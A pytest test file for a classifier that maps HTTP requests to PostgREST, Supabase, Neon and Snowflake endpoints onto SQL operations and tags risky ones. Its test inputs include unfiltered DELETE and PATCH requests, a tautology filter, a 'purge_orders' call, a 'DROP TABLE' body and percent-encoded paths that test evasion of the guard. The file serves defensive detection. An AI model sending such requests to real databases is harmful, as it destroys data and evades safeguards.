    (
        "DELETE",
        "/rest/v1/orders?name=like.*",
        "abcd.supabase.co",
        "supabase",
        "DELETE",
        Verb.DELETE,
        "orders",
        ["delete-without-where", "tautology"],
    ),
    (
        "DELETE",
        "/rest/v1/orders?id=eq.1&id=eq.2",
        "abcd.supabase.co",
        "supabase",
        "DELETE",
        Verb.DELETE,
        "orders",
        [],
    ),
    (
        "DELETE",
        "/rest/v1/%6Frders",
        "abcd.supabase.co",
        "supabase",
        "DELETE",
        Verb.DELETE,
        "orders",
        ["delete-without-where", "unfiltered"],
    ),
    (
        "PATCH",
        "/rest/v1/users",
        "pgrst.corp",
        "postgrest",
        "UPDATE",
        Verb.UPDATE,
        "users",
        ["delete-without-where", "unfiltered", "update-without-where"],
    ),
    (
        "PATCH",
        "/rest/v1/users?or=(id.eq.1,id.eq.2)",
        "pgrst.corp",
        "postgrest",
        "UPDATE",
        Verb.UPDATE,
        "users",
        [],
    ),
    (
        "PATCH",
        "/rest/v1/users?not.or=(id.eq.1)",
        "pgrst.corp",
        "postgrest",
        "UPDATE",
        Verb.UPDATE,
        "users",
        [],
    ),
    (
        "GET",
        "/rest/v1/orders?select=*",
        "abcd.supabase.co",
        "supabase",
        "SELECT",
        Verb.READ,
        "orders",
        [],
    ),
    (
        "POST",
        "/rest/v1/orders",
        "abcd.supabase.co",
        "supabase",
        "INSERT",
        Verb.CREATE,
        "orders",
        [],
    ),
    (
        "PUT",
        "/rest/v1/orders?id=eq.1",
        "abcd.supabase.co",
        "supabase",
        "UPSERT",
        Verb.UPDATE,
        "orders",
        ["upsert"],
    ),
    (
        "POST",
        "/rest/v1/rpc/purge_orders",
        "abcd.supabase.co",
        "supabase",
        "CALL",
        Verb.EXECUTE,
        "purge_orders",
        ["function-call"],
    ),
    (
        "GET",
        "/rest/v1/rpc/purge_orders",
        "abcd.supabase.co",
        "supabase",
        "CALL",
        Verb.EXECUTE,
        "purge_orders",
        ["function-call", "read-only"],
    ),
    (
        "GET",
        "/rest/v1/%72pc/purge_orders",
        "abcd.supabase.co",
        "supabase",
        "CALL",
        Verb.EXECUTE,
        "purge_orders",
        ["function-call", "read-only"],
    ),
]


@pytest.mark.parametrize(
    ("method", "path", "host", "service", "operation", "verb", "name", "tags"), POSTGREST
)
def test_postgrest(
    method: str,
    path: str,
    host: str,
    service: str,
    operation: str,
    verb: Verb,
    name: str,
    tags: list[str],
) -> None:
    request = http(method, path, host=host, port=443, headers={"apikey": "secret"})
    assert looks_like_sql(request)
    action = recognise_sql(request)
    assert (action.service, action.operation, action.verb) == (service, operation, verb)
    assert action.resource.name == name
    assert action.risk_tags == tags


def test_postgrest_prefer_headers() -> None:
    def with_prefer(method: str, path: str, prefer: str) -> Action:
        headers = {"apikey": "k", "prefer": prefer}
        return recognise_sql(http(method, path, host="a.supabase.co", port=443, headers=headers))

    upsert = with_prefer("POST", "/rest/v1/orders", "return=minimal, resolution=merge-duplicates")
    assert (upsert.operation, upsert.verb) == ("UPSERT", Verb.UPDATE)
    rollback = with_prefer("DELETE", "/rest/v1/orders", "tx=rollback")
    assert (rollback.verb, rollback.dry_run) == (Verb.DELETE, False)  # the server may ignore it
    assert "delete-without-where" in rollback.risk_tags


def test_postgrest_schema_profile() -> None:
    headers = {"apikey": "k", "content-profile": "billing"}
    action = recognise_sql(
        http("DELETE", "/rest/v1/orders?id=eq.1", host="a.supabase.co", port=443, headers=headers)
    )
    assert action.resource.name == "billing.orders"


@pytest.mark.parametrize(
    ("host", "path", "body", "content_type"),
    [
        ("ep-1.neon.tech", "/sql", b"{not json", "application/json"),
        ("ep-1.neon.tech", "/sql", b'{"query": "DROP TABLE x"}', "text/plain"),
        ("ep-1.neon.tech", "/sql", b'{"query": 42}', "application/json"),
        ("ep-1.neon.tech", "/sql", b'{"queries": []}', "application/json"),
        ("ep-1.neon.tech", "/sql", b'{"params": []}', "application/json"),
        ("a.snowflakecomputing.com", "/api/v2/statements", b"[]", "application/json"),
    ],
)
def test_garbage_raises(host: str, path: str, body: bytes, content_type: str) -> None:
    request = http(
        "POST", path, host=host, port=443, body=body, headers={"content-type": content_type}
    )
    with pytest.raises(SqlError):
        recognise_sql(request)


@pytest.mark.parametrize(
    ("method", "host", "path"),
    [
        ("POST", "example.com", "/sql"),  # /sql without Neon's host or header
        ("POST", "example.com", "/api/v2/statements"),
        ("DELETE", "example.com", "/rest/v1/orders"),  # no PostgREST client marks
        ("GET", "bigquery.googleapis.com", "/bigquery/v2/projects/p/datasets"),
    ],
)
def test_not_sql(method: str, host: str, path: str) -> None:
    assert not looks_like_sql(http(method, path, host=host, port=443))
